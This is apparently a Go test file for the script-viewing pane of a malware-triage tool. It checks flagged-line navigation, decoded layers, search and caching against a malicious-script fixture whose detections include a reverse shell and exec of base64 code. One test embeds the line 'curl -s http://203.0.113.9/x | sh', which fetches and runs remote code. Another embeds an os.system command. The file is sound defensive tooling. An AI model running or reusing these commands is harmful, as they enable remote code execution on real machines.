package scriptpane

import (
	"strings"
	"testing"

	"github.com/pytriage/pytriage/finding"
	"github.com/pytriage/pytriage/model"
	"github.com/pytriage/pytriage/ui/theme"
)

func TestFlaggedLineNavigationAndFooter(t *testing.T) {
	src := readFixture(t, "dropper.py")
	p := open(t, nil, src, fixtureReport(t), 100, 30)
	steps := []struct {
		key      string
		line     int
		hitsHave string
	}{
		{"]", 8, "L8 ▌ low raw-ip T1071: hard-coded IP address 203.0.113.7"},
		{"]", 9, "▌ info blob T1027 (layer 1): base64 blob decodes to Python"},
		{"]", 12, "‼ critical reverse-shell T1059.006,T1071: socket connected"},
		{"n", 13, "reverse-shell"},
		{"]", 14, "reverse-shell"},
		{"]", 16, "! medium cr-hiding T1564"},
		{"]", 17, "‼ high exec-decoded T1027,T1140: exec(base64.b64decode(...)) · ! medium cr-hiding"},
		{"]", 8, "raw-ip"}, // wraps
		{"[", 17, "exec-decoded"},
		{"N", 16, "cr-hiding"},
	}
	for _, s := range steps {
		press(p, s.key)
		if p.line() != s.line {
			t.Fatalf("after %q: line %d, want %d", s.key, p.line(), s.line)
		}
		if hits, _ := footerLines(p); !strings.Contains(hits, s.hitsHave) {
			t.Fatalf("after %q: footer %q lacks %q", s.key, hits, s.hitsHave)
		}
	}
	press(p, "g")
	if hits, status := footerLines(p); !strings.HasPrefix(hits, "malicious 0.97 · 7 flagged lines") || !strings.Contains(status, "Ln 1/20") {
		t.Fatalf("unflagged line footer %q / %q", hits, status)
	}
}

func TestGutterMarksCarryGlyphAndColour(t *testing.T) {
	p := open(t, theme.NoColor(), readFixture(t, "dropper.py"), fixtureReport(t), 100, 30)
	got := screen(p)
	for _, want := range []string{" 8▌│C2 = (", " 9▌│BLOB", "12‼│", "16!│# looks like a comment␍", "17‼│exec(", " 1 │#!/usr/bin/env"} {
		if !strings.Contains(got, want) {
			t.Errorf("gutter lacks %q:\n%s", want, got)
		}
	}
}

func TestLayersToggle(t *testing.T) {
	p := open(t, nil, readFixture(t, "dropper.py"), fixtureReport(t), 100, 30)
	rows := len(p.rows)
	press(p, "]", "]") // line 9, holding the blob
	press(p, "d")
	got := screen(p)
	for _, want := range []string{"↳ decoded layer (depth 1): base64, 2 lines, analysed as Python", "print('layer two says hi')", "[layers]"} {
		if !strings.Contains(got, want) {
			t.Errorf("layers view lacks %q:\n%s", want, got)
		}
	}
	if p.line() != 9 || len(p.rows) != rows+3 {
		t.Fatalf("line %d rows %d (want 9, %d)", p.line(), len(p.rows), rows+3)
	}
	press(p, "j") // onto the layer header: still line 9's hits
	if hits, _ := footerLines(p); !strings.Contains(hits, "blob") {
		t.Fatalf("layer row footer %q", hits)
	}
	press(p, "d")
	if len(p.rows) != rows || strings.Contains(screen(p), "layer two") {
		t.Fatal("layers still shown")
	}
}

func TestSearchThenFlaggedKeys(t *testing.T) {
	p := open(t, nil, readFixture(t, "dropper.py"), fixtureReport(t), 100, 30)
	press(p, "/")
	if !p.Capturing() {
		t.Fatal("not capturing")
	}
	typeText(p, "SOCKET")
	if hits, _ := footerLines(p); !strings.HasPrefix(hits, "/SOCKET") {
		t.Fatalf("prompt %q", hits)
	}
	press(p, "enter")
	if p.line() != 5 {
		t.Fatalf("first match on %d, want 5", p.line())
	}
	press(p, "n")
	if p.line() != 12 {
		t.Fatalf("n: %d, want 12", p.line())
	}
	press(p, "N", "N") // 5, then wrap to 12
	if p.line() != 12 {
		t.Fatalf("N N: %d, want 12 (matches 5, 12)", p.line())
	}
	if _, status := footerLines(p); !strings.Contains(status, "match 2/2") {
		t.Fatalf("status %q", status)
	}
	if v := p.View(); !strings.Contains(v, p.paint.Normal[clsMatch].Pre+"socket") {
		t.Fatal("matches are not highlighted")
	}
	press(p, "esc", "n") // no search: n goes to the next flagged line
	if p.line() != 13 {
		t.Fatalf("n without search: %d, want 13", p.line())
	}
}

func TestHorizontalScrollKeepsGutter(t *testing.T) {
	p := open(t, nil, readFixture(t, "dropper.py"), nil, 60, 30)
	press(p, "G")
	press(p, "l", "l", "right") // 24 cells
	got := screen(p)
	if !strings.Contains(got, "20 │ing happens\")  # xxx") || !strings.Contains(got, "col +24") {
		t.Fatalf("scrolled view:\n%s", got)
	}
	press(p, "h", "left", "h", "h")
	if strings.Contains(screen(p), "col +") || p.hoff != 0 {
		t.Fatalf("hoff %d", p.hoff)
	}
}

func TestReportArrivesAfterSpinner(t *testing.T) {
	src := readFixture(t, "dropper.py")
	p := open(t, nil, src, nil, 100, 30)
	if hits, _ := footerLines(p); !strings.Contains(hits, "analysing…") {
		t.Fatalf("no spinner: %q", hits)
	}
	p.SetReport("0000", fixtureReport(t)) // another script's report
	if hits, _ := footerLines(p); !strings.Contains(hits, "analysing…") {
		t.Fatal("foreign report applied")
	}
	p.SetReport(keyOf(src), fixtureReport(t))
	if hits, _ := footerLines(p); !strings.Contains(hits, "malicious 0.97") {
		t.Fatalf("report not applied: %q", hits)
	}
}

func TestOwnAnalyzeRunsInCommandAndCaches(t *testing.T) {
	calls := 0
	rep := &model.Report{Verdict: model.VerdictSuspicious, Score: 0.5,
		Hits: []model.Hit{{Detector: "d", Severity: model.SeverityMedium, Lines: []int{1}, Message: "m"}}}
	p := New(nil, Options{Analyze: func(string) *model.Report { calls++; return rep }})
	p.SetSize(80, 12)
	a, b := record("a.py", "print(1)\n", 9), record("b.py", "print(2)\n", 9)
	p.SetRecord(a)
	if calls != 0 {
		t.Fatal("analysed inside SetRecord")
	}
	run(p, p.Load())
	p.SetRecord(b)
	run(p, p.Load())
	p.SetRecord(a)
	if cmd := p.Load(); cmd != nil {
		t.Fatal("cached script started work again")
	}
	if calls != 2 || p.rep != rep || p.doc == nil {
		t.Fatalf("calls %d, report %v, doc %v", calls, p.rep, p.doc)
	}
}

func TestStaleHighlightDropped(t *testing.T) {
	p := New(nil, Options{})
	p.SetSize(80, 12)
	p.SetRecord(record("a.py", "OLD = 1\n", 8))
	old := p.Load()
	p.SetRecord(record("b.py", "NEW = 2\n", 8))
	fresh := p.Load()
	run(p, fresh)
	run(p, old) // the earlier selection's result arrives late
	if got := screen(p); !strings.Contains(got, "NEW = 2") || strings.Contains(got, "OLD") {
		t.Fatalf("stale document shown:\n%s", got)
	}
	p.SetRecord(record("a.py", "OLD = 1\n", 8))
	if p.doc == nil {
		t.Fatal("late result was not cached")
	}
}

func TestTruncatedLiteralAndMissingScript(t *testing.T) {
	src := "import os\n"
	p := New(nil, Options{})
	p.SetSize(80, 10)
	p.SetRecord(record("/tmp/a.py", src, 5000))
	run(p, p.Load())
	if !strings.Contains(screen(p), "— contents truncated: 10 of 5000 bytes —") {
		t.Fatalf("no truncation marker:\n%s", screen(p))
	}
	lit := &finding.Record{Finding: finding.Finding{Processes: []finding.Process{{
		Binary: &finding.File{Path: "/usr/bin/python3"}, Args: []string{"python3", "-c", "import os;os.system('id')"}}}}}
	p.SetRecord(lit)
	run(p, p.Load())
	if got := screen(p); !strings.Contains(got, "import os;os.system('id')") || !strings.Contains(got, "literal (python3 -c)") {
		t.Fatalf("literal:\n%s", got)
	}
	p.SetRecord(&finding.Record{})
	if !strings.Contains(screen(p), "no script") {
		t.Fatalf("no-script: %q", screen(p))
	}
	p.SetRecord(nil)
	if !strings.Contains(screen(p), "no finding selected") {
		t.Fatal("nil record")
	}
}

func TestViewFillsExactlyItsSize(t *testing.T) {
	src := readFixture(t, "dropper.py")
	for _, sz := range [][2]int{{0, 0}, {1, 1}, {5, 2}, {12, 4}, {40, 7}, {80, 24}, {200, 60}} {
		p := open(t, nil, src, fixtureReport(t), sz[0], sz[1])
		checkView(t, p.View(), sz[0], sz[1])
		press(p, "]", "d", "l", "/")
		typeText(p, "exec")
		checkView(t, p.View(), sz[0], sz[1])
		press(p, "enter", "G")
		checkView(t, p.View(), sz[0], sz[1])
	}
}

func TestLRU(t *testing.T) {
	c := newLRU[int](2)
	c.put("a", 1)
	c.put("b", 2)
	c.get("a")
	c.put("c", 3) // evicts b, the least recently used
	if _, ok := c.get("b"); ok {
		t.Fatal("b kept")
	}
	if v, ok := c.get("a"); !ok || v != 1 {
		t.Fatal("a lost")
	}
}

func TestShellScriptUsesBashLexer(t *testing.T) {
	src := "#!/bin/bash\r\ncurl -s http://203.0.113.9/x | sh\n# done\r\n"
	p := New(nil, Options{})
	p.SetSize(80, 10)
	p.SetRecord(record("/tmp/run.sh", src, int64(len(src))))
	if !p.scr.bash {
		t.Fatal("not recognised as shell")
	}
	run(p, p.Load())
	if p.doc == nil || p.doc.plain || len(p.doc.lines) != 3 {
		t.Fatalf("doc %+v", p.doc)
	}
	if got := plainDoc(p.doc); got[1] != "curl -s http://203.0.113.9/x | sh" {
		t.Fatalf("line 2 %q", got[1])
	}
}
